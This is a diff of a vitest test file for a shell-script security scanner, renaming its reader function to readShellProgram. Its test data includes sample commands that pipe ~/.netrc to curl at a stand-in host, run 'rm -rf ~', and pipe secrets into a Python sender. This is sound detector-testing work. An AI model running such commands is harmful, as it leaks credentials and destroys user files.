@@ -2,9 +2,9 @@ import * as fc from 'fast-check'
 import { describe, expect, it } from 'vitest'
 import { listFacts, listFlows, toExamples } from '../support/code-reading.ts'
 import type { CodeReading } from '../../packages/scanner/src/code/reading.ts'
-import { readShell } from '../../packages/scanner/src/code/shell/run.ts'
+import { readShellProgram } from '../../packages/scanner/src/code/shell/run.ts'
 
-const facts = (script: string) => listFacts(readShell(script))
+const facts = (script: string) => listFacts(readShellProgram(script))
 
 describe('what a shell script does in one place', () => {
   const done = [
@@ -68,14 +68,14 @@ describe('keys that a shell script uses as intended', () => {
     'curl -fsS "$API_HOST/health" -H "PRIVATE-TOKEN: $GITLAB_TOKEN"',
     'docker login -u x -p "$DOCKER_PASSWORD"; gh pr create --title "$T"; git push origin main',
     'scp build.tar.gz u@e.example:/srv; rsync -a dist/ host:/www; aws s3 sync dist s3://site',
-  ])('no flow in %s', (script) => expect(listFlows(readShell(script))).toEqual([]))
+  ])('no flow in %s', (script) => expect(listFlows(readShellProgram(script))).toEqual([]))
 })
 
 describe('positions', () => {
   it('are those of the command, or of the string that contains the code', () => {
     const script = 'echo a\ncat ~/.netrc | curl -d @- https://e.example/c\nbash -c "rm -rf ~"\n'
     const at = ({ start, end }: { start: number; end: number }) => script.slice(start, end)
-    const { facts: found } = readShell(script)
+    const { facts: found } = readShellProgram(script)
     expect(found.map(at)).toEqual([
       'cat ~/.netrc',
       'curl -d @- https://e.example/c',
@@ -99,12 +99,12 @@ describe('code of other languages in a shell script', () => {
     ["cat > x.py <<'EOF'\nsend(1)\nEOF", 'python'],
     ["cat > run <<'EOF'\n#!/usr/bin/env node\nsend(1)\nEOF", 'script'],
   ])('is read: %s', (script, language) => {
-    expect(listFacts(readShell(script, readOther))).toEqual([`network-send https://${language}.example/`])
+    expect(listFacts(readShellProgram(script, readOther))).toEqual([`network-send https://${language}.example/`])
   })
 
   it('receives what is piped into it', () => {
     const script = 'cat ~/.netrc | python3 -c "send(sys.stdin.read())"'
-    expect(listFlows(readShell(script, readOther))).toEqual([
+    expect(listFlows(readShellProgram(script, readOther))).toEqual([
       'secret-read ~/.netrc → network-send https://python.example/',
     ])
   })
@@ -116,20 +116,20 @@ describe('limits', () => {
       '¦',
     )
   it.each(units)('reads many %j in bounded work', (unit) => {
-    const reading = readShell(unit.repeat(8000))
+    const reading = readShellProgram(unit.repeat(8000))
     expect(reading.cut ?? '').not.toContain('could not')
   })
 
   it('reports what it does not read', () => {
-    expect(readShell('a\n'.repeat(1_000_000)).cut).toMatch(/first \d+ characters|too many steps/)
-    expect(readShell('ls\n').cut).toBeUndefined()
+    expect(readShellProgram('a\n'.repeat(1_000_000)).cut).toMatch(/first \d+ characters|too many steps/)
+    expect(readShellProgram('ls\n').cut).toBeUndefined()
   })
 
   it('never throws', () => {
     const pieces = 'curl ¦$(¦)¦"¦\'¦`¦| sh¦<<E\n¦\nE\n¦${x¦}¦~/.netrc¦ -d @¦; ¦{¦eval ¦\\¦>¦&1 '.split('¦')
     fc.assert(
       fc.property(fc.array(fc.constantFrom(...pieces), { maxLength: 30 }), (words) => {
-        const { facts: found, flows } = readShell(words.join(''))
+        const { facts: found, flows } = readShellProgram(words.join(''))
         for (const { from, to } of flows) expect([found.includes(from), found.includes(to)]).toEqual([true, true])
       }),
     )
